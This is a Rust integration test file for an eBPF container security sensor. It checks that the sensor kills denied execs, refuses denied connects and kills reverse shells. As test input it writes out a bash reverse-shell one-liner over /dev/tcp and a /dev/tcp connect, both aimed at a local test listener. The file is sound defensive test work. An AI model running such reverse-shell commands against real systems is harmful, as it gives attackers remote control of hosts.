//! The programs on this kernel: loads in the best mode it allows, reports execs with their
//! container's cgroup, kills a denied exec, refuses a denied connect, kills a shell whose
//! stdio becomes a socket. Needs root and BPF; without them each test prints why it skips.

use std::io::Read;
use std::net::TcpListener;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use kabuto_runtime_bpf::{ContainerRule, Inode, KernelEvent, KernelVerdict, Sensor, cgroup_id};

/// The cgroup2 mount: `/sys/fs/cgroup/unified` on hybrid hosts.
fn cgroup2_root() -> Option<PathBuf> {
    ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
        .into_iter()
        .map(PathBuf::from)
        .find(|p| p.join("cgroup.procs").exists() && p.join("cgroup.controllers").exists())
}

fn skip(why: &str) -> bool {
    eprintln!("SKIPPED: {why}");
    true
}

/// Root and a cgroup2 mount, or a printed note.
fn prerequisites() -> Option<PathBuf> {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let root = status
        .lines()
        .find(|l| l.starts_with("Uid:"))
        .is_some_and(|l| l.split_whitespace().nth(2) == Some("0"));
    if !root {
        skip("the eBPF tests need root (CAP_BPF, CAP_SYS_ADMIN)");
        return None;
    }
    let Some(root) = cgroup2_root() else {
        skip("no cgroup2 hierarchy mounted");
        return None;
    };
    Some(root)
}

/// A cgroup2 directory for one test, removed at the end.
struct TestCgroup(PathBuf);

impl TestCgroup {
    fn new(root: &Path, name: &str) -> TestCgroup {
        let dir = root.join(format!("kabuto-test-{name}-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("create cgroup");
        TestCgroup(dir)
    }

    fn id(&self) -> u64 {
        cgroup_id(&self.0).expect("cgroup id")
    }

    /// `sh -c script`, moved into the cgroup before it runs the script.
    fn run(&self, script: &str) -> std::process::ExitStatus {
        let procs = self.0.join("cgroup.procs");
        Command::new("sh")
            .arg("-c")
            .arg(format!("echo $$ > {} && {script}", procs.display()))
            .status()
            .expect("run sh")
    }
}

impl Drop for TestCgroup {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir(&self.0);
    }
}

fn events_until(sensor: &Sensor, want: impl Fn(&KernelEvent) -> bool) -> Option<KernelEvent> {
    let mut events = sensor.events().expect("ring buffer");
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        for event in events.poll(Duration::from_millis(100)).expect("poll") {
            if want(&event) {
                return Some(event);
            }
        }
    }
    None
}

fn load(root: &Path) -> Option<Sensor> {
    let host = cgroup_id(root).expect("root cgroup id");
    match Sensor::load(root, &[host]) {
        Ok(sensor) => {
            eprintln!("{}", sensor.describe());
            Some(sensor)
        }
        Err(e) => {
            skip(&format!("the kernel refused the eBPF programs: {e}"));
            None
        }
    }
}

#[test]
fn a_denied_exec_is_killed_and_reported_with_its_cgroup() {
    let Some(root) = prerequisites() else { return };
    let Some(sensor) = load(&root) else { return };
    let cgroup = TestCgroup::new(&root, "exec");
    let dir = tempfile::tempdir().expect("dir");
    let evil = dir.path().join("evil-true");
    std::fs::copy("/bin/true", &evil).expect("copy true");
    let inode = Inode::of(&std::fs::metadata(&evil).expect("stat"));
    sensor
        .watch_container(cgroup.id(), ContainerRule::default())
        .expect("watch");
    sensor.deny_exec(cgroup.id(), inode).expect("deny");
    let workdir = dir
        .path()
        .canonicalize()
        .expect("real path")
        .join("work dir");
    std::fs::create_dir(&workdir).expect("work dir");
    let status = cgroup.run(&format!(
        "cd '{}' && {} ; /bin/true",
        workdir.display(),
        evil.display()
    ));
    assert!(status.success(), "the script goes on after the kill");
    let killed = cgroup.run(&format!(
        "cd '{}' && exec {}",
        workdir.display(),
        evil.display()
    ));
    assert_eq!(killed.signal(), Some(9), "killed by SIGKILL: {killed:?}");
    let event = events_until(&sensor, |e| {
        matches!(
            e,
            KernelEvent::Exec {
                verdict: KernelVerdict::DenyListed,
                ..
            }
        )
    })
    .expect("a killed exec event");
    let KernelEvent::Exec {
        task,
        filename,
        ino,
        cwd,
        ..
    } = event
    else {
        unreachable!()
    };
    assert_eq!(task.cgroup_id, cgroup.id());
    assert_eq!(filename, evil.display().to_string());
    assert_eq!(ino, inode.ino);
    // The working directory, read in the kernel: the process is gone before user space looks.
    assert_eq!(cwd, Some(workdir.display().to_string()));
    // Deeper than the kernel walks: left for user space.
    let deep = (0..40).fold(workdir.clone(), |dir, i| dir.join(format!("d{i}")));
    std::fs::create_dir_all(&deep).expect("deep dir");
    let status = cgroup.run(&format!("cd '{}' && exec /bin/true", deep.display()));
    assert!(status.success());
    let event = events_until(
        &sensor,
        |e| matches!(e, KernelEvent::Exec { filename, .. } if filename == "/bin/true"),
    )
    .expect("the deep exec");
    assert!(
        matches!(event, KernelEvent::Exec { cwd: None, .. }),
        "{event:?}"
    );
    // The same file outside the container's cgroup runs.
    assert!(Command::new(&evil).status().expect("run").success());
    assert_eq!(sensor.lost_events().expect("lost"), 0);
}

#[test]
fn a_denied_connect_fails_with_eperm_in_the_container_only() {
    let Some(root) = prerequisites() else { return };
    let Some(sensor) = load(&root) else { return };
    let cgroup = TestCgroup::new(&root, "connect");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    sensor
        .watch_container(cgroup.id(), ContainerRule::default())
        .expect("watch");
    sensor
        .watch_port(cgroup.id(), port, true)
        .expect("deny port");
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo $$ > {}/cgroup.procs && exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' 2>&1",
            cgroup.0.display()
        ))
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{text}");
    assert!(text.contains("Operation not permitted"), "{text}");
    let event = events_until(&sensor, |e| matches!(e, KernelEvent::Connect { .. }))
        .expect("a connect event");
    let KernelEvent::Connect {
        remote,
        verdict,
        cgroup_id,
        ..
    } = event
    else {
        unreachable!()
    };
    assert_eq!(
        (remote.port(), verdict, cgroup_id),
        (port, KernelVerdict::ConnectDenied, cgroup.id())
    );
    // The host connects.
    assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_ok());
}

#[test]
fn a_shell_with_a_socket_on_stdout_is_killed() {
    let Some(root) = prerequisites() else { return };
    let Some(sensor) = load(&root) else { return };
    let cgroup = TestCgroup::new(&root, "shell");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    sensor
        .watch_container(
            cgroup.id(),
            ContainerRule {
                block_reverse_shell: true,
                ..ContainerRule::default()
            },
        )
        .expect("watch");
    let accept = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().expect("accept");
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        let mut got = String::new();
        let _ = stream.read_to_string(&mut got);
        got
    });
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo $$ > {}/cgroup.procs && bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; echo exit=$?'",
            cgroup.0.display()
        ))
        .output()
        .expect("run");
    let got = accept.join().expect("listener");
    assert_eq!(got, "", "the shell reached the listener");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("exit=137"), "killed with SIGKILL: {text}");
    let event = events_until(&sensor, |e| matches!(e, KernelEvent::StdioSocket { .. }))
        .expect("a stdio socket event");
    let KernelEvent::StdioSocket {
        task,
        remote,
        verdict,
        fd,
    } = event
    else {
        unreachable!()
    };
    assert_eq!(task.comm, "bash");
    assert_eq!(verdict, KernelVerdict::ReverseShell);
    assert_eq!(fd, 1);
    assert_eq!(remote.map(|r| r.port()), Some(port));
}

/// The reader is woken at the first exec of a cgroup no container rule names (a new
/// container must be registered at once), not left for its next poll. (Later execs there
/// wait for the poll: bench/enforcer.sh measures what that saves.)
#[test]
fn the_first_exec_of_an_unknown_cgroup_wakes_the_reader() {
    let Some(root) = prerequisites() else { return };
    let Some(sensor) = load(&root) else { return };
    let cgroup = TestCgroup::new(&root, "wakeup");
    let mut events = sensor.events().expect("ring buffer");
    let _ = events.poll(Duration::from_millis(10)).expect("drain");
    let marker = "/bin/true";
    let started = Instant::now();
    assert!(cgroup.run(&format!("exec {marker}")).success());
    let seen = loop {
        let batch = events.poll(Duration::from_secs(10)).expect("poll");
        let mine = batch.iter().any(|e| {
            matches!(e, KernelEvent::Exec { task, filename, .. }
                if task.cgroup_id == cgroup.id() && filename == marker)
        });
        if mine || started.elapsed() > Duration::from_secs(10) {
            break mine;
        }
    };
    assert!(seen, "the exec event arrived");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "woken at once, not at the 10 s poll timeout: {:?}",
        started.elapsed()
    );
}
